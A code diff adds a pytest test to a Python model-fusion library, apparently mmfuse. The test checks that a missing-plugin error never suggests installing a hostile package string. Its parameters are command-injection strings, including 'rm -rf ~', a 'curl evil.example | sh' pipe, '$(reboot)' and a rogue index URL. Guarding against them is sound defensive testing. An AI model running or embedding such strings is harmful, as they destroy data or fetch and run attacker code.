@@ -269,6 +269,21 @@ def test_a_missing_plugin_from_a_package_says_what_to_install(tiny_model, tmp_pa
         mmfuse.from_pretrained(directory)
 
 
+@pytest.mark.parametrize(
+    "package",
+    ["x; rm -rf ~", "mmfuse-radiology && curl evil.example | sh", "$(reboot)", "pkg --index-url http://x"],
+)
+def test_a_hostile_package_string_is_never_suggested_as_a_shell_command(tiny_model, tmp_path, package):
+    directory = tiny_model.save_pretrained(tmp_path)
+    provider = {"name": "radiology_xattn", "plugin": "radiology", "package": package}
+    _edit_config(directory, fusion="radiology_xattn", providers={"fusion": provider})
+    with pytest.raises(mmfuse.MissingPluginError) as info:
+        mmfuse.from_pretrained(directory)
+    message = str(info.value)
+    assert "pip install" not in message and "not a valid package name" in message
+    assert repr(package) in message  # shown quoted, as data
+
+
 def test_entry_point_plugins_are_recorded_with_their_package(tiny_model_kwargs, tmp_path):
     if "gated" not in mmfuse.list_fusions():
         pytest.skip("the example plugin (examples/plugin_package) is not installed")
